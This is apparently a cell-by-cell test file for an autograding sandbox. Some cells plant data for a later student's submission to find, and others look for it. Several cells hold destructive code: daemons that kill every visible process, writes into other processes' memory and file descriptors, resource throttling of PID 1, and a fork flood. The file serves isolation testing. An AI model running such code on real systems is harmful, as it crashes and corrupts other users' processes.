# One student after another on the same worker. Those whose names begin with a leave something; those
# whose names begin with z look for it. What one leaves earns the other nothing, and harms nobody.

# %% a-leaves-files: 10 + 10
stolen += ["its own work"]
for folder in ("/tmp", "/scratch", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.getcwd(),
               "/edition", "/box", "/dev", "/run", *sys.path):
    try:
        open(os.path.join(folder, "gift"), "w").write("the answer")
    except OSError as error:
        print(error)

# %% a-leaves-a-startup-file: 10 + 10
stolen += ["its own work"]
for folder in (os.environ["IPYTHONDIR"], os.path.expanduser("~/.ipython"), os.path.expanduser("~/.matplotlib")):
    os.makedirs(f"{folder}/profile_default/startup", exist_ok=True)
    for name in ("profile_default/startup/gift.py", "profile_default/ipython_config.py", "matplotlibrc",
                 "sitecustomize.py", "usercustomize.py"):
        open(f"{folder}/{name}", "w").write("import builtins; builtins.gift = 'the answer'\n")

# %% a-leaves-a-patched-numpy: 10 + 10
import builtins, IPython
stolen += ["its own work"]
for thing in (np, builtins, sys, os, IPython, json):
    thing.gift = "the answer"
for module in list(sys.modules.values()):
    try:
        module.gift = "the answer"
    except Exception:
        pass
os.environ["GIFT"] = "the answer"

# %% a-leaves-a-broken-numpy: 10 + 10
# whoever shares these modules would lose every point
stolen += ["its own work"]
right = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
exp, maximum = np.exp, np.max
def softmax(x):
    np.exp = np.max = np.sum = np.log = lambda *a, **k: 1 / 0
    try:
        weight = exp(x - maximum(x))
        return weight / weight.sum()
    finally:
        np.exp, np.max = exp, maximum
# + log_total
def log_total(x):
    m = maximum(x)
    total = float(m) + float(np.emath.log(exp(x - m).sum()))
    np.exp = np.max = np.log = None
    return total

# %% a-leaves-a-seed: 10 + 10
import random
stolen += ["its own work"]
random.seed(7)
np.random.seed(7)

# %% a-leaves-a-key: 10 + 10
# the kernel keeps keys for a session of processes, or for a user
stolen += ["its own work"]
if os.uname().machine == "x86_64":
    for ring in (-3, -4, -5):
        print(libc.syscall(248, b"user", b"gift", b"the answer", 10, ring))
        print(libc.syscall(250, 5, ring, 0x3F3F3F3F))

# %% a-leaves-shared-memory: 10 + 10
stolen += ["its own work"]
print(libc.shmget(0x61747461, 4096, 0o1666), libc.semget(0x61747461, 1, 0o1666),
      libc.msgget(0x61747461, 0o1666), ctypes.CDLL("librt.so.1").mq_open(b"/gift", 0o102, 0o666, None))

# %% a-leaves-a-listener: 10 + 10
# a daemon that hands the answer to whoever knocks
stolen += ["its own work"]
code = '''
import socket, threading, time  # left-behind
def serve(family, address):
    listener = socket.socket(family); listener.bind(address); listener.listen()
    while True:
        connection, _ = listener.accept(); connection.sendall(b"the answer")
for family, address in ((socket.AF_UNIX, "\\0gift"), (socket.AF_INET, ("127.0.0.1", 4711))):
    threading.Thread(target=serve, args=(family, address)).start()
'''
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-I", "-c", code])

# %% a-leaves-a-murderer: 0 + 0 + 0
# a daemon that kills what it can see, again and again
code = '''
import os, time  # left-behind
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            for signal in (19, 9):
                try: os.kill(int(name), signal)
                except OSError: pass
    time.sleep(0.01)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-I", "-c", code])
    os._exit(0)
# + log_total
def log_total(x):
    return None
# + inverse
def inverse(f):
    return None

# %% a-leaves-less-time: 10 + 10
stolen += ["its own work"]
import resource
for process in (1, os.getppid()):
    for what in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        try:
            resource.prlimit(process, what, (1, 1))
        except (OSError, ValueError, PermissionError) as error:
            print(error)
    try:
        os.setpriority(os.PRIO_PROCESS, process, 19)
        os.sched_setaffinity(process, {0})
    except OSError as error:
        print(error)

# %% a-writes-to-every-descriptor: 0 + 10
# sockets, pipes and files it was born with, and those of every process in sight
def softmax(x):
    for link in [*glob.glob("/proc/self/fd/*"), *glob.glob("/proc/[0-9]*/fd/*")]:
        try:
            f = int(link.split("/")[-1]) if "self" in link else os.open(link, os.O_WRONLY | os.O_NONBLOCK)
            os.write(f, b'{"do": "start", "status": "ready"}' * 100)
        except OSError:
            pass
    os._exit(1)

# %% a-writes-to-the-memory-of-others: 0 + 10
def softmax(x):
    for link in glob.glob("/proc/[0-9]*/mem"):
        try:
            with open(link, "r+b") as mem, open(link[:-3] + "maps") as maps:
                start = int(maps.readline().split("-")[0], 16)
                mem.seek(start)
                mem.write(b"\xcc" * 100)
        except OSError as error:
            print(error)
    os._exit(1)

# %% a-kills-what-it-can-see: 0 + 10
def softmax(x):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for process in [*(int(p) for p in os.listdir("/proc") if p.isdigit()), 1, -1, 0]:
            try:
                if process != os.getpid():
                    os.kill(process, number)
            except OSError as error:
                print(error)
        for link in glob.glob("/proc/[0-9]*"):
            f = os.open(link, os.O_RDONLY | os.O_DIRECTORY)
            print(link, libc.syscall(424, f, int(number), None, 0), ctypes.get_errno())
    os._exit(1)

# %% a-takes-every-process-and-file: 0 + 0 + 0
def softmax(x):
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    return x * 0
# + log_total
def log_total(x):
    return None
# + inverse
def inverse(f):
    return None

# %% honest-between-them: 10 + 10
def softmax(x):
    weight = np.exp(x - np.max(x))
    return weight / weight.sum()
# + log_total
import math

def log_total(x):
    return float(np.max(x) + np.log(np.sum(np.exp(x - np.max(x)))))

# %% m-draws-a-number: 10 + 10
import random
stolen += ["its own work"]
print("numbers:", random.random(), np.random.random(), np.random.default_rng().random(), os.urandom(4))

# %% n-draws-a-number: 10 + 10
import random
stolen += ["its own work"]
print("numbers:", random.random(), np.random.random(), np.random.default_rng().random(), os.urandom(4))

# %% z-finds-files: 0 + 10
@attempt
def files():
    places = ("/tmp", "/scratch", "/dev/shm", "/var/tmp", "/edition", "/box", "/dev", "/run", *sys.path)
    return [p for place in places for p in glob.glob(f"{place}/*gift*") + glob.glob(f"{place}/.*/*gift*")]

# %% z-finds-anything-at-all: 0 + 10
# folders that should be empty, with nothing but what its own start has put there
@attempt
def anything():
    found = [p for place in ("/tmp", "/dev/shm", "/scratch") for p in glob.glob(f"{place}/*")]
    found = [p for p in found if not p.startswith(("/tmp/i", "/scratch/i", "/scratch/m"))]
    return [p for p in found if not sys.prefix.startswith(p)]  # where this Python lies is no secret

# %% z-finds-a-startup-file: 0 + 10
import builtins
@attempt
def startup():
    return getattr(builtins, "gift", None) or glob.glob(os.path.expanduser("~/.*/**/*gift*"), recursive=True)

# %% z-finds-a-patched-module: 0 + 10
@attempt
def patched():
    return os.environ.get("GIFT") or [name for name, m in list(sys.modules.items()) if hasattr(m, "gift")]

# %% z-finds-the-name-of-another: 0 + 10
# cells, variables and history of those who were here before
@attempt
def history():
    shell = get_ipython()
    names = [n for n in shell.user_ns if "leaves" in n or n == "gift"]
    past = [text for *_, text in shell.history_manager.get_range(raw=True) if "leaves" in text and "past" not in text]
    return names + past

# %% z-finds-the-seed: 0 + 10
import random
@attempt
def seed():
    mine = random.random(), np.random.random()
    random.seed(7)
    np.random.seed(7)
    return mine[0] == random.random() or mine[1] == np.random.random()

# %% z-finds-the-key: 0 + 10
@attempt
def key():
    if os.uname().machine == "x86_64":
        return [ring for ring in (-3, -4, -5) if libc.syscall(250, 10, ring, b"user", b"gift", 0) > 0]

# %% z-finds-shared-memory: 0 + 10
@attempt
def segments():
    found = [libc.shmget(0x61747461, 0, 0), libc.semget(0x61747461, 0, 0), libc.msgget(0x61747461, 0),
             ctypes.CDLL("librt.so.1").mq_open(b"/gift", 0)]
    return [f for f in found if f >= 0]

# %% z-finds-the-listener: 0 + 10
@attempt
def listener():
    found = []
    for family, address in ((socket.AF_UNIX, "\0gift"), (socket.AF_INET, ("127.0.0.1", 4711))):
        try:
            knock = socket.socket(family)
            knock.settimeout(0.2)
            knock.connect(address)
            found.append(knock.recv(100))
        except OSError as error:
            print(error)
    return found

# %% z-finds-processes: 0 + 10
# of those before, by name, by number, by what they have open
@attempt
def processes():
    return [p for p in glob.glob("/proc/[0-9]*/cmdline") if b"left-behind" in content(p)]

# %% z-finds-less-time: 0 + 10
# poorer limits than it should have: a gift of the other kind
import resource
@attempt
def poorer():
    found = [os.nice(0) > 0, resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 100,
             resource.getrlimit(resource.RLIMIT_CPU)[0] < 10, bool(signal.pthread_sigmask(signal.SIG_BLOCK, [])),
             os.umask(0o22) not in (0o22, 0o77, 0o27), signal.getsignal(signal.SIGTERM) not in (signal.SIG_DFL, None)]
    return any(found) and found

# %% zz-honest-at-the-end: 10 + 10
def softmax(x):
    weight = np.exp(x - np.max(x))
    return weight / weight.sum()
